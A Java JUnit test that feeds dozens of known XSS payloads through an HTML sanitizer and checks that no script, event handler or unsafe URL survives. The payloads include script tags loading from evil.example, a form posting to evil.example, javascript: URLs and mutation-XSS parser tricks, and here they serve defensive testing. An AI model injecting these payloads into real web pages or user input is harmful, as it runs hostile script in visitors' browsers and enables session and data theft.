package io.annals.platform.richtext;

import java.util.Set;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** Attacks as collected by OWASP and by authors of sanitizers. */
class RichTextAttacksTest {

    private static final Set<String> ADDRESSES = Set.of("href", "src", "cite");

    @ParameterizedTest
    @ValueSource(strings = { "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>", "<svg><g/onload=alert(2)//<p></svg>", "<a href=\" java\tscript:alert(1)\">x</a>",
            "<form action=\"https://evil.example\"><input name=p></form>", "<p style=\"background:url(//x)\">x</p>",
            "<object data=x></object>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>", "<<SCRIPT>alert(1);//\\<</SCRIPT>",
            "<SCRIPT/XSS SRC=\"http://evil.example\"></SCRIPT>", "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">",
            "<IMG SRC=`javascript:alert(1)`>", "<BODY ONLOAD=alert(1)>", "<BASE HREF=\"javascript:alert(1);//\">",
            "<math><mi xlink:href=\"data:x\">x</mi></math>", "<meta http-equiv=refresh content=0>",
            "<style>*{}</style>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"
                    + "</table></mtext></math>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml>"
                    + "</math>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\"></svg>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></p></noscript>",
            "<math><mi><b><title></mi></b></math><img src=\"</title><img onerror=alert(1)>\">",
            "<p title=\"</p><img src=x onerror=alert(1)>\">x</p>", "<a title='\"><script>alert(1)</script>'>x</a>",
            "<math><annotation>&lt;/math&gt;&lt;img src=x onerror=alert(1)&gt;</annotation></math>",
            "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<math><b>x</b><mi>y</mi></math>",
            "<table><tr><td><math><mi></td></tr></table><b>x</b></mi></math>",
            "<a href=\"https://x.example\"><table><a href=\"javascript:alert(1)\">x</a></table></a>",
            "<!--><img src=x onerror=alert(1)>-->", "<!--x--!><img src=x onerror=alert(1)>-->",
            "<math><!--</math><img src=x onerror=alert(1)>--><mi>x</mi></math>",
            "<b><template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template></b>" })
    void no_attack_leaves_anything_that_runs(String typed) {
        SafeHtml safe = SafeHtml.of(typed);
        assertThat(SafeHtml.of(safe.html()).html()).isEqualTo(safe.html());
        for (Element element : Jsoup.parse(safe.html()).body().getAllElements()) {
            String name = element.normalName();
            assertThat(HtmlNames.ALLOWED.contains(name) || HtmlNames.MATH.contains(name) || name.equals("body"))
                .as(safe.html())
                .isTrue();
            for (Attribute attribute : element.attributes()) {
                assertThat(attribute.getKey()).doesNotStartWith("on").isNotIn("style", "xlink:href", "id");
                if (ADDRESSES.contains(attribute.getKey())) {
                    assertThat(attribute.getValue()).matches("https:.*|data:image/.*");
                }
            }
        }
    }

}
